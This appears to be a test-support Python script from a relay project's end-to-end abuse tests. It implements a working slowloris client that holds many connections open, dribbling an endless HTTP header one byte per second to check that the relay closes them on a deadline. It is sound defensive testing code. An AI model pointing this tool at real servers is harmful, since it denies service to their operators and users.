#!/usr/bin/python3
"""slowloris: hold N connections that send an HTTP request head one byte a second and
never finish it (tests/e2e/test_abuse.py runs it in its own process, so its work is
not the measuring client's).

    slowloris.py --port P --conns N [--src 127.0.0.3,127.0.0.4] [--host 127.0.0.1]

The connects are spread over the first second, so the relay's head deadlines fall due
spread out too (the load is steady, not a 5-second pulse). A connection the relay
closes is recorded (seconds from its connect to the close) and replaced at once, so N
stay open. Prints {"up": N} once all are connected; on SIGTERM (or stdin closing) it
closes everything and prints one JSON line: how many the relay closed and how long
each had lived (sorted), how many were still open, how many bytes went out. Bounded:
it also ends by itself after --max-seconds.
"""

import argparse
import collections
import json
import os
import selectors
import signal
import socket
import sys
import time

# An endless request head: a request line, then one header whose value never ends.
HEAD = b"GET /healthz HTTP/1.1\r\nHost: relay\r\nX-Slow: " + b"a" * 100000


def main():
    p = argparse.ArgumentParser()
    p.add_argument("--host", default="127.0.0.1")
    p.add_argument("--port", type=int, required=True)
    p.add_argument("--conns", type=int, required=True)
    p.add_argument("--src", default="127.0.0.3")
    p.add_argument("--max-seconds", type=float, default=120.0)
    a = p.parse_args()
    # A real attacker runs on other machines: here it shares two cores with the relay
    # and the measured client, so it yields them (nice 19) rather than add its own CPU
    # time to the round trips the test measures. The relay's work for it still counts.
    os.nice(19)
    srcs = a.src.split(",")
    sel = selectors.DefaultSelector()
    conns = {}  # fd -> [sock, t_connect, bytes_sent, next_send, alive]
    # every connection sends once a second, so a FIFO of them is in next-send order:
    # each loop pops the ones that are due (no pass over all of them)
    due = collections.deque()
    lifetimes = []
    sent_total = 0
    stop = False
    errors = []

    def on_term(*_):
        nonlocal stop
        stop = True

    signal.signal(signal.SIGTERM, on_term)
    n_made = 0

    def open_one(t_first_send):
        nonlocal n_made
        s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        s.bind((srcs[n_made % len(srcs)], 0))
        n_made += 1
        s.setblocking(False)
        rc = s.connect_ex((a.host, a.port))
        if rc not in (0, 115):  # EINPROGRESS
            errors.append(os.strerror(rc))
            s.close()
            return
        c = [s, time.monotonic(), 0, t_first_send, True]
        conns[s.fileno()] = c
        due.append(c)
        sel.register(s, selectors.EVENT_READ)

    t0 = time.monotonic()
    # spread the connects (and so the deadlines) over the first second
    for i in range(a.conns):
        open_one(t0 + i / a.conns)
        target = t0 + (i + 1) / a.conns
        if i % 100 == 99:
            time.sleep(max(0.0, target - time.monotonic()))
    print(json.dumps({"up": len(conns)}), flush=True)
    end = t0 + a.max_seconds
    while not stop and time.monotonic() < end:
        now = time.monotonic()
        for key, _ in sel.select(timeout=0.02):
            s = key.fileobj
            c = conns.get(s.fileno())
            try:
                data = s.recv(4096)
            except (BlockingIOError, InterruptedError):
                continue
            except OSError:
                data = b""
            if data:
                continue  # an answer (e.g. 408): the close follows
            lifetimes.append(round(now - c[1], 3))
            c[4] = False
            sel.unregister(s)
            del conns[s.fileno()]
            s.close()
            open_one(now + 1.0)
        while due and due[0][3] <= now:
            c = due.popleft()
            if not c[4]:
                continue
            try:
                n = c[0].send(HEAD[c[2]:c[2] + 1])
                c[2] += n
                sent_total += n
            except (BlockingIOError, InterruptedError):
                pass
            except OSError:
                pass  # the close shows up as EOF/RST on the read side
            c[3] += 1.0
            due.append(c)
    still_open = len(conns)
    for c in conns.values():
        c[0].close()
    lifetimes.sort()
    print(json.dumps({"closed_by_relay": len(lifetimes), "lifetimes": lifetimes, "still_open": still_open,
                      "bytes_sent": sent_total, "errors": errors[:5]}), flush=True)


if __name__ == "__main__":
    sys.exit(main())
